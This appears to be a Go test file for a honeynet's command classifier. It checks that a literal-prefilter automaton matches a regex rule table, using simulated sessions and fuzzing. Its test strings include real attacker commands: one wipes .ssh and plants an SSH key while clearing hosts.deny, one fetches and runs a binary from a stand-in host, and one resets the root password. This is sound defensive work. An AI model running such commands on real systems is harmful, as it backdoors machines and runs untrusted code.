package classify

import (
	"math/rand"
	"regexp"
	"strings"
	"testing"

	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// oracle is the rule table read literally: every Require regex matches,
// no Exclude regex matches, first rule wins. It shares nothing with the
// automaton — no literal extraction, no prefilter, no programs.
func oracle(text string) string {
next:
	for _, r := range rules {
		for _, expr := range r.Require {
			if !oracleRE(expr).MatchString(text) {
				continue next
			}
		}
		for _, expr := range r.Exclude {
			if oracleRE(expr).MatchString(text) {
				continue next
			}
		}
		return r.Name
	}
	return Unknown
}

var oracleCompiled = map[string]*regexp.Regexp{}

func oracleRE(expr string) *regexp.Regexp {
	re := oracleCompiled[expr]
	if re == nil {
		re = regexp.MustCompile(expr)
		oracleCompiled[expr] = re
	}
	return re
}

// completeLiterals re-derives, from the Require strings alone, the
// literals a rule cannot match without: one per regex whose match set
// is exactly one string.
func completeLiterals(r Rule) []string {
	var lits []string
	for _, expr := range r.Require {
		if lit, complete := oracleRE(expr).LiteralPrefix(); complete && lit != "" {
			lits = append(lits, lit)
		}
	}
	return lits
}

// corpusTexts simulates a corpus and returns the distinct command
// texts, the classification input population.
func corpusTexts(t testing.TB, scale float64, seed int64) []string {
	t.Helper()
	seen := map[string]bool{}
	var texts []string
	_, err := simulate.Run(simulate.Config{
		Scale: scale,
		Seed:  seed,
		Sink: func(r *session.Record) {
			txt := r.CommandText()
			if txt == "" || seen[txt] {
				return
			}
			seen[txt] = true
			texts = append(texts, txt)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(texts) == 0 {
		t.Fatal("simulated corpus produced no command texts")
	}
	return texts
}

// TestStreamingMatchesBatch is the correctness bar: the automaton must
// agree byte-for-byte with the rule table read literally over simulated
// corpora at several sample sizes.
func TestStreamingMatchesBatch(t *testing.T) {
	c := New()
	for _, tc := range []struct {
		scale float64
		seed  int64
	}{
		{100000, 1},
		{50000, 2},
		{20000, 3},
	} {
		texts := corpusTexts(t, tc.scale, tc.seed)
		for _, txt := range texts {
			if got, want := c.ClassifyStats(txt, nil), oracle(txt); got != want {
				t.Fatalf("scale=%v: automaton %q != oracle %q for %q", tc.scale, got, want, txt)
			}
		}
		t.Logf("scale=%v: %d distinct texts agree", tc.scale, len(texts))
	}
}

// TestStreamingMatchesBatchAdversarial exercises the corners the
// simulator never produces: literal fragments, overlapping literals,
// rule-precedence traps, empty and binary-ish inputs.
func TestStreamingMatchesBatchAdversarial(t *testing.T) {
	c := New()
	cases := []string{
		"",
		"mdrfckr",
		"mdrfckrhosts.deny",
		"hosts.deny mdrfck", // literal prefix but not the full literal
		`cd ~ && rm -rf .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo > /etc/hosts.deny`,
		"wget curl ftp echo",
		"wgetcurl", // \b requires must fail even though substrings occur
		"echo ok echo okecho ok",
		strings.Repeat("busybox ", 100),
		"uname -a; nproc; /bin/busybox ABCDE; tftp; wget",
		"\x00\x01\x02 echo \xff\xfe",
		"dget -4 wget -4",
		"update.shupdate.sh",
		"perl perl dred dred",
		"max-redirmax",
	}
	// Every rule's literals joined, plus random splices of them.
	var lits []string
	for _, r := range rules {
		rl := completeLiterals(r)
		cases = append(cases, strings.Join(rl, " "), strings.Join(rl, ""))
		lits = append(lits, rl...)
	}
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 2000; i++ {
		n := 1 + rng.Intn(5)
		var b strings.Builder
		for j := 0; j < n; j++ {
			lit := lits[rng.Intn(len(lits))]
			if rng.Intn(3) == 0 && len(lit) > 1 {
				lit = lit[:1+rng.Intn(len(lit)-1)] // partial literal
			}
			b.WriteString(lit)
			if rng.Intn(2) == 0 {
				b.WriteByte(' ')
			}
		}
		cases = append(cases, b.String())
	}
	for _, txt := range cases {
		if got, want := c.ClassifyStats(txt, nil), oracle(txt); got != want {
			t.Fatalf("automaton %q != oracle %q for %q", got, want, txt)
		}
	}
}

// TestMatcherStats sanity-checks the work accounting: candidates +
// skipped covers every rule up to the first match.
func TestMatcherStats(t *testing.T) {
	c := New()
	var st Stats
	cat := c.ClassifyStats("systemctl status sshd", &st)
	if cat != Unknown {
		t.Fatalf("got %q", cat)
	}
	if st.Candidates+st.Skipped != len(rules) {
		t.Fatalf("candidates %d + skipped %d != %d rules", st.Candidates, st.Skipped, len(rules))
	}
	if st.Skipped == 0 {
		t.Fatal("automaton should skip most rules on an unknown text")
	}
	if c.numPats == 0 {
		t.Fatal("no literal patterns compiled")
	}
}

// TestNecessaryLits pins the extractor's behavior on representative
// rule-table shapes and checks the one property everything rests on:
// soundness — if the regex matches a text, the text contains at least
// one extracted literal.
func TestNecessaryLits(t *testing.T) {
	cases := []struct {
		expr string
		want []string
	}{
		{`\bcurl\b`, []string{"curl"}},
		{`\becho\b`, []string{"echo"}},
		{`uname\s+-s\s+-v\s+-n\s+-r\s+-m`, []string{"uname"}},
		{`root:[A-Za-z0-9]{15,}`, []string{"root:"}},
		// The parser factors the shared "x" prefix out of the
		// alternation; the branch remainders are still necessary.
		{`(x0x0x0|xoxoxo)`, []string{"0x0x0", "oxoxo"}},
		{`(/bin/busybox\s|busybox\s)`, []string{"/bin/busybox", "busybox"}},
		{`openssl passwd -1 \S{8}`, []string{"openssl passwd -1 "}},
		{`\S{8}`, nil},                 // char class only: nothing derivable
		{`(?i)sora`, nil},              // case-folded literal is no containment guarantee
		{`(abc)?def`, []string{"def"}}, // optional branch contributes nothing
	}
	for _, tc := range cases {
		got := NecessaryLits(tc.expr)
		if len(got) != len(tc.want) {
			t.Fatalf("NecessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Fatalf("NecessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
			}
		}
	}

	// Soundness over the whole rule table and a simulated corpus: a
	// match without any necessary literal present would break the
	// automaton prefilter's byte-identity.
	texts := corpusTexts(t, 50000, 5)
	for _, r := range rules {
		for _, expr := range r.Require {
			lits := NecessaryLits(expr)
			if lits == nil {
				continue
			}
			re := oracleRE(expr)
			for _, txt := range texts {
				if !re.MatchString(txt) {
					continue
				}
				found := false
				for _, lit := range lits {
					if strings.Contains(txt, lit) {
						found = true
						break
					}
				}
				if !found {
					t.Fatalf("rule %s: %q matches %q but contains none of %q",
						r.Name, re, txt, lits)
				}
			}
		}
	}
}

// TestACAutomaton cross-checks the automaton against strings.Contains
// on random texts over a small alphabet engineered for overlaps.
func TestACAutomaton(t *testing.T) {
	pats := []string{"ab", "abc", "bc", "c", "abca", "aa", "cab", "bcab"}
	b := newACBuilder()
	for i, p := range pats {
		b.add(p, int32(i))
	}
	ac := b.build()
	rng := rand.New(rand.NewSource(11))
	for i := 0; i < 5000; i++ {
		n := rng.Intn(20)
		buf := make([]byte, n)
		for j := range buf {
			buf[j] = "abc"[rng.Intn(3)]
		}
		text := string(buf)
		hits := make([]bool, len(pats))
		ac.scan(text, hits)
		for j, p := range pats {
			if hits[j] != strings.Contains(text, p) {
				t.Fatalf("text %q pattern %q: automaton %v, Contains %v", text, p, hits[j], !hits[j])
			}
		}
	}
}

// FuzzClassify fuzzes automaton-vs-oracle agreement on arbitrary
// command text.
func FuzzClassify(f *testing.F) {
	c := New()
	f.Add("mdrfckr hosts.deny")
	f.Add(`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd`)
	f.Add("wget http://x/a; chmod +x a; ./a")
	f.Add("/bin/busybox KDVRN")
	f.Add("")
	f.Add("\x00\xff echo ok")
	f.Fuzz(func(t *testing.T, text string) {
		if got, want := c.ClassifyStats(text, nil), oracle(text); got != want {
			t.Fatalf("automaton %q != oracle %q for %q", got, want, text)
		}
	})
}

// BenchmarkClassifyStats measures the engine — one automaton scan plus
// residual regexes, no memo — over the distinct texts of a simulated
// corpus.
func BenchmarkClassifyStats(b *testing.B) {
	texts := corpusTexts(b, 50000, 1)
	c := New()
	var bytes int64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		txt := texts[i%len(texts)]
		bytes += int64(len(txt))
		_ = c.ClassifyStats(txt, nil)
	}
	b.SetBytes(bytes / int64(b.N))
}
